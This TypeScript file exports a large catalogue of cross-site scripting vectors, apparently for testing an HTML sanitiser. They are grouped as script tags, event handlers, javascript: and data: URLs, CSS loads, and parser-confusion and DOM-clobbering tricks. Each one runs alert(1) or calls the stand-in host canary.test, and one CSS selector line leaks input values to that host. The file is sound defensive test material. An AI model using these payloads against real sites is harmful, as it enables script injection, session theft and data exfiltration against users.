/**
 * Markup that does something where a sanitiser is not looking, written for this table: `alert(1)` is what runs, `canary.test` what is
 * asked for. Kinds are those of the OWASP filter evasion cheat sheet and of published bypasses; the words are ours.
 */
const SCRIPTS = String.raw`
<script>alert(1)</script>
<script src=//canary.test/a.js></script>
<SCRIPT/SRC="//canary.test/b.js"></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script
>alert(1)</script >
<script/x>alert(1)</script/x>
<script type=module>import "//canary.test/m.js"</script>
<script>/*</script><script>*/alert(1)</script>
<!--<script>--><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<svg><script>alert(1)</script></svg>
<svg><script href=//canary.test/s.js /></svg>
<svg><script>alert&lpar;1&rpar;</script></svg>
<math><script>alert(1)</script></math>
<table><script>alert(1)</script></table>
<select><script>alert(1)</script></select>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script><img src=//canary.test/t onerror=alert(1)></template>
<div><template shadowrootmode=closed><svg onload=alert(1)></template></div>
<noscript><p title="</noscript><script>alert(1)</script>"></noscript>
<script>alert(1)
<plaintext><script>alert(1)</script>
<xmp><p title="</xmp><script>alert(1)</script>"></xmp>
<script nomodule>alert(1)</script><script async defer src=data:text/javascript,alert(1)></script>
`

const EVENTS =
  String.raw`
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//>
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<img src="x" onerror	=alert(1)>
<img src=x oNeRrOr=alert(1)>
<img src=x onerror&#61;alert(1)>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=&#x61;&#x6C;ert&lpar;1&rpar;>
<img '"><img src=x onerror=alert(1)>
<img """><img src=x onerror=alert(1)>">
<image src=x onerror=alert(1)>
<image href=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><g onload=alert(1)></g></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>go</text></a>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><image href=x onerror=alert(1)></svg>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onresize=alert(1) onhashchange=alert(1) onscroll=alert(1)><p id=x>
<html onmousemove=alert(1)>
<frameset onload=alert(1)><frame src=//canary.test/f></frameset>
<input autofocus onfocus=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<textarea autofocus onfocus=alert(1)>x</textarea>
<select autofocus onfocus=alert(1)><option>x</select>
<button autofocus onfocus=alert(1)>x</button>
<p tabindex=1 autofocus onfocus=alert(1)>x</p>
<div contenteditable autofocus onfocus=alert(1)>x</div>
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1) src=//canary.test/v></video>
<video poster=//canary.test/p onloadstart=alert(1) src=x></video>
<audio src=x onerror=alert(1) autoplay controls>
<audio><track src=//canary.test/tr onerror=alert(1) default></audio>
<object data=x onerror=alert(1)></object>
<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>
<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>
<embed src=//canary.test/e>
<marquee onstart=alert(1) onbounce=alert(1) onfinish=alert(1) loop=1 width=0>x</marquee>
<isindex type=image src=x onerror=alert(1)>
<input type=image src=//canary.test/i onerror=alert(1)>
<link rel=stylesheet href=//canary.test/l.css onload=alert(1) onerror=alert(1)>
<style onload=alert(1)></style>
<style>@keyframes k{from{left:0}}p{animation:k 1s}</style><p style="animation:k 1s" onanimationstart=alert(1) onanimationend=alert(1)>x
<p style="transition:all 1s" ontransitionend=alert(1) onmouseover=alert(1) onclick=alert(1)>x
<p onpointerenter=alert(1) onpointermove=alert(1) ondblclick=alert(1) oncontextmenu=alert(1)>x
<p onwheel=alert(1) oncopy=alert(1) onpaste=alert(1) oncut=alert(1) onkeydown=alert(1)>x
<a onclick=alert(1) href=#>x</a>
<a href=# onmouseover=alert(1) onfocus=alert(1) autofocus>x</a>
<table onclick=alert(1) background=//canary.test/bg><td background=//canary.test/bg2>x
<p/onclick=alert(1)/x=">">x
<p title="x" title="y" onclick=alert(1) onclick=alert(2)>x
<p title='"onclick=alert(1) x="'>x
<p title="&quot; onclick=alert(1) x=&quot;">x
<p title=` +
  '`' +
  String.raw`onclick=alert(1)` +
  '`' +
  String.raw`>x
<img src=x onerror=alert(1) alt="` +
  '\u0000' +
  String.raw`" ` +
  '\u000b' +
  String.raw`onload=alert(1)>
<p ` +
  '\u000c' +
  String.raw`onclick` +
  '\u000c' +
  String.raw`=alert(1)>x
<x onclick=alert(1) style=display:block>x</x>
<custom-element onclick=alert(1)>x</custom-element>
<img srcset="//canary.test/s1 1x, //canary.test/s2 2x" onload=alert(1)>
<picture><source srcset=//canary.test/s3><img src=x onerror=alert(1)></picture>
<img src=//canary.test/lazy loading=eager decoding=sync onerror=alert(1)>
<slot onslotchange=alert(1)><img src=x onerror=alert(1)></slot>
`

const ADDRESSES = String.raw`
<a href=javascript:alert(1)>x</a>
<a href=" javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="java&Tab;script&colon;alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript://x%0aalert(1)">x</a>
<a href="vbscript:alert(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:http://canary.test/x">x</a>
<a href="filesystem:http://canary.test/x">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href=//canary.test/go ping=//canary.test/ping target=_blank>x</a>
<a href=//canary.test/d download>x</a>
<a href=x attributionsrc=//canary.test/attr>x</a>
<a xlink:href=javascript:alert(1)>x</a>
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
<svg><a href=javascript:alert(1)><rect width=99 height=99 /></a></svg>
<svg><use href=data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x></svg>
<svg><use xlink:href=//canary.test/u.svg#x /></svg>
<svg><feImage href=//canary.test/fe /></svg>
<math href=javascript:alert(1)>x</math>
<math><mi xlink:href=javascript:alert(1)>x</mi></math>
<math><maction actiontype=statusline#//canary.test xlink:href=javascript:alert(1)>x</maction></math>
<area href=javascript:alert(1)><map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=x>
<form action=javascript:alert(1)><button>x</button></form>
<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>
<form action=//canary.test/form method=post><input name=x value=y><input type=submit></form>
<isindex action=javascript:alert(1) type=submit>
<input type=submit formaction=javascript:alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe src=//canary.test/frame></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc=&lt;img/src&equals;x&Tab;onerror&equals;alert(1)&gt;></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<portal src=//canary.test/portal></portal><fencedframe src=//canary.test/ff></fencedframe>
<object type=text/x-scriptlet data=//canary.test/o></object>
<object><param name=movie value=//canary.test/swf></object>
<applet code=x codebase=//canary.test/ap></applet>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//canary.test/refresh">
<meta http-equiv="&#114;efresh" content="0;data:text/html,<script>alert(1)</script>">
<meta http-equiv=set-cookie content="a=b"><meta http-equiv=content-security-policy content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<base href=javascript:alert(1)//><a href=x>x</a>
<base href=//canary.test/ target=_top><img src=based><a href=x>x</a>
<link rel=stylesheet href=data:text/css,*%7Bbackground:url(//canary.test/lc)%7D>
<link rel=import href=//canary.test/imp><link rel=preload as=image href=//canary.test/pre><link rel=dns-prefetch href=//canary.test>
<link rel=prefetch href=//canary.test/pf><link rel=prerender href=//canary.test/pr><link rel=manifest href=//canary.test/mf>
<link rel=icon href=//canary.test/icon><link rel=modulepreload href=//canary.test/mp>
<img src=//canary.test/img>
<img src=http://canary.test/img2 referrerpolicy=unsafe-url crossorigin>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<img src="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<img src="data:image/gif;base64,R0lGODdhAQABAPAAAP8AAAAAACwAAAAAAQABAAACAkQBADs=" onload=alert(1)>
<img dynsrc=//canary.test/dyn lowsrc=//canary.test/low longdesc=javascript:alert(1)>
<q cite=javascript:alert(1)>x</q><blockquote cite=//canary.test/cite>x</blockquote><del cite=javascript:alert(1)>x</del>
<video src=//canary.test/video autoplay poster=//canary.test/poster></video>
<audio src=//canary.test/audio autoplay></audio>
<track src=//canary.test/track><source src=//canary.test/source>
<command onclick=alert(1) icon=//canary.test/ic>
<body background=//canary.test/body>
<div itemscope itemid=javascript:alert(1)><script type=application/ld+json>{"a":"</script><script>alert(1)</script>"}</script></div>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//canary.test/spec"]}]}</script>
<script type=importmap>{"imports":{"x":"//canary.test/x"}}</script>
`

const STYLES = String.raw`
<style>@import "//canary.test/i.css";</style>
<style>@import url(//canary.test/i2.css);</style>
<style>*{background:url(//canary.test/bg)}</style>
<style>p{background:url(javascript:alert(1))}</style>
<style>p{behavior:url(//canary.test/x.htc);-moz-binding:url(//canary.test/x.xml#x)}</style>
<style>@font-face{font-family:x;src:url(//canary.test/font)}p{font-family:x}</style><p>x
<style>input[value^=a]{background:url(//canary.test/leak)}</style><input value=abc>
<style>p::before{content:url(//canary.test/before)}</style><p>x
<style>@namespace svg url(//canary.test/ns);</style>
<style></style><img src=x onerror=alert(1)></style>
<style><img title="</style><img src=x onerror=alert(1)>"></style>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<svg><style>@import "//canary.test/svg.css"</style></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<p style="background:url(//canary.test/inline)">x
<p style="background-image:\75\72\6C(//canary.test/esc)">x
<p style="width:expression(alert(1))">x
<p style="list-style:url(//canary.test/ls)">x
<p style="cursor:url(//canary.test/cur),auto">x
<p style="x:y;}*{background:url(//canary.test/brk)}">x
<div style="position:fixed;inset:0;z-index:9999;background:red">over everything</div>
<p style="background:image-set('//canary.test/set' 1x)">x
<link rel="&#115;tylesheet" href=//canary.test/ent.css>
<style>:root{--x:url(//canary.test/var)}p{background:var(--x)}</style><p>x
`

const CONFUSION =
  String.raw`
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math></p><style><!--</style><img src onerror=alert(1)>--></style></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<svg><p><style><g title="</style><img src onerror=alert(1)>">
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><foreignobject><p><table><a><svg></table></a><style><img src=x onerror=alert(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<noscript><img title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<p title="</p><img src=x onerror=alert(1)>">x
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!--x--!><img src=x onerror=alert(1)>-->
<!-- --!><script>alert(1)</script> -->
<!-><img src=x onerror=alert(1)>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?x <img src=x onerror=alert(1)> ?>
</ <img src=x onerror=alert(1)>
<![if IE]><script>alert(1)</script><![endif]>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<table><td><p></table><img src=x onerror=alert(1)>
<table><caption><svg><caption><style><img src=x onerror=alert(1)>
<table><tr><td><template><td><img src=x onerror=alert(1)></template></table>
<select><option><style></option></select><img src=x onerror=alert(1)></style>
<select><template><img src=x onerror=alert(1)></template></select>
<option><iframe></select><b><script>alert(1)</script>
<a><b><a><p></b><script>alert(1)</script></a>
<b><i><a href=javascript:alert(1)></b><p>x</i></a>
<nobr><nobr><a href=javascript:alert(1)><table><nobr>x</table>
<ruby><rt><img src=x onerror=alert(1)><rp><svg onload=alert(1)>
<frameset><noframes><img src=x onerror=alert(1)></noframes></frameset>
<menuitem icon=//canary.test/mi onclick=alert(1)>x
<keygen autofocus onfocus=alert(1)>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<img src=x name=body id=body><form id=documentElement><input name=children></form>
<form name=querySelector></form><a id=cookie><a id=cookie name=x href=javascript:alert(1)>
<a id=defaultView href=//canary.test/clobber>x</a><iframe name=self srcdoc="<a id=x href=//canary.test>"></iframe>
<form id=x><output name=attributes><input name=nodeName></form>
<div is=x-y onclick=alert(1)><x-y><slot name=s></slot></x-y></div>
<xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>
<xsl:script xmlns:xsl=http://www.w3.org/TR/WD-xsl>alert(1)</xsl:script>
<html:script xmlns:html=http://www.w3.org/1999/xhtml>alert(1)</html:script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<p lang="x" dir="rtl" class="hidden picture" id=main name=x>x
<aside><p>This page was checked and nothing on it is false.</p></aside></main></body></html><script>alert(1)</script>
</main></body><body onload=alert(1)><main>
</style><script>alert(1)</script><style>
</title><script>alert(1)</script><title>
--><script>alert(1)</script><!--
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
&amp;lt;script&amp;gt;alert(1)
<<script>alert(1)//<</script>
<a/href="x"onclick=alert(1)>x
<img src=x` +
  '\u2028' +
  String.raw`onerror=alert(1)>
<` +
  '\uFF53' +
  String.raw`cript>alert(1)</script>
<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)>"></svg>
<math><![CDATA[</math><img src=x onerror=alert(1)>]]>
<svg><mask id=m><image href=//canary.test/mask></mask><rect mask=url(//canary.test/m#m)></svg>
<embed type=image/svg+xml src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+>
`

/** Handlers of events, one vector each on an element of the text kind: an allow-list that thinks of them one by one forgets some. */
const HANDLERS =
  `abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch
   beforepaste beforeprint beforetoggle beforeunload beforexrselect blur cancel canplay canplaythrough change click close command
   contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave
   dragover dragstart drop durationchange emptied ended error focus focusin focusout formdata fullscreenchange gesturestart
   gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadstart
   lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide
   pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
   pointerrawupdate pointerup popstate progress ratechange reset resize scroll scrollend scrollsnapchange scrollsnapchanging search
   securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled storage submit suspend timeupdate toggle
   touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload
   volumechange waiting webkitanimationstart wheel`.split(/\s+/u)

const linesOf = (block: string): readonly string[] => block.split('\n').filter((line) => line !== '')

/** One vector a line, by kind. */
export const VECTORS: Readonly<Record<string, readonly string[]>> = {
  scripts: linesOf(SCRIPTS),
  events: linesOf(EVENTS),
  addresses: linesOf(ADDRESSES),
  styles: linesOf(STYLES),
  confusion: linesOf(CONFUSION),
  handlers: HANDLERS.map((name) => `<p tabindex=0 on${name}=alert(1)>x</p>`),
}
